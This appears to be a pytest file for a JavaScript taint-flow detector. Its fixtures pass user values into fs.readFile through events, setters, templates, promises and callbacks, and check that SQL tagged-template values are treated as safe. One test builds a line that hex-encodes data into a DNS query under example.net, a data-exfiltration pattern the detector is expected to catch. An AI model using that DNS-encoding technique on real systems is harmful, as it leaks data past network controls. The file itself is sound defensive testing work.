"""Ways by which JavaScript hands a value to a function: events, setters, templates, promises, names."""

import pytest

from tests.surface.test_flows import JS, kinds, registered

BUS = 'import { EventEmitter } from "node:events";\nconst bus = new EventEmitter();\n'
WAYS = {
    "event by a constant": (
        BUS + "const SAVED = 'saved'; bus.on(SAVED, ({ path }) => fs.readFile(path));",
        "bus.emit(SAVED, { path: WHAT });",
    ),
    "event by a symbol": (
        BUS + "const SAVED = Symbol('saved'); bus.on(SAVED, (path) => fs.readFile(path));",
        "bus.emit(SAVED, WHAT);",
    ),
    "usual event of its own": (
        BUS + "bus.on('message', (path) => fs.readFile(path));",
        "bus.emit('message', WHAT);",
    ),
    "method that hears": (
        BUS
        + "class A { constructor(b) { b.on('a', this.#go.bind(this)) } #go(p) { fs.readFile(p) } }"
        " new A(bus);",
        "bus.emit('a', WHAT);",
    ),
    "target of events": (
        "const t = new EventTarget(); t.addEventListener('a', (e) => fs.readFile(e.detail));",
        "t.dispatchEvent(new CustomEvent('a', { detail: WHAT }));",
    ),
    "setter": (
        "class A { set path(p) { fs.readFile(p) } } const a = new A();",
        "a.path = WHAT;",
    ),
    "template": ("const read = (s, ...v) => fs.readFile(v[0]);", "return read`a ${WHAT}`;"),
    "promise": ("", "return fs.readFile(await new Promise((done) => done(WHAT)));"),
    "call": ("", "return fs.readFile.call(null, WHAT);"),
    "each": ("", "return [WHAT].map(fs.readFile);"),
    "later": ("", "setImmediate(fs.readFile, WHAT);"),
    "handed in": ("const run = (x, read) => read(x);", "return run(WHAT, fs.readFile);"),
    "handed in an object": (
        "const make = ({ read }) => ({ go: (x) => read(x) }); const a = make({ read: fs.readFile });",
        "return a.go(WHAT);",
    ),
    "one of a list": (
        "const all = [{ id: 'a', run: (x) => fs.readFile(x) }];",
        "const one = all.find((o) => o.id === 'a'); return one.run(WHAT);",
    ),
    "each pair of a list": (
        "const all = [['a', (x) => fs.readFile(x)]];",
        "return all.map(([, run]) => run(WHAT));",
    ),
    "each object of a list": (
        "const all = [{ id: 'a', run: (x) => fs.readFile(x) }];",
        "all.forEach((one) => one.run(WHAT));",
    ),
}


@pytest.mark.parametrize("way", WAYS.values(), ids=WAYS.keys())
def test_value_is_handed_on(way: tuple[str, str]) -> None:
    source, body = way
    for given, expected in (("name", {"path"}), ("'notes'", set())):
        said = JS + source + "\n" + registered(body.replace("WHAT", given))
        assert kinds(said) == expected


TAG = "const db = new Database('x.db');\nconst sql = (s, ...v) => ({ text: s.join('?'), values: v });\n"


@pytest.mark.parametrize(
    "body",
    [
        "return db.query(sql`select * from t where a = ${name}`);",
        "const q = sql`select * from t where a = ${name}`; return db.query(q.text, q.values);",
        "const { text, values } = sql`select 1 where a = ${name}`; return db.query(text, values);",
    ],
)
def test_values_beside_a_text_are_no_part_of_it(body: str) -> None:
    assert kinds(JS + TAG + registered(body)) == set()


@pytest.mark.parametrize(("between", "expected"), [(".", {"sent"}), ("-", set())])
def test_encoded_parts_of_a_name_that_is_asked_for(between: str, expected: set[str]) -> None:
    part = "Buffer.from(name).toString('hex')"
    said = f"return dns.resolve4([{part}, 'example', 'net'].join('{between}'));"
    assert kinds(JS + "import dns from 'node:dns/promises';\n" + registered(said)) == expected
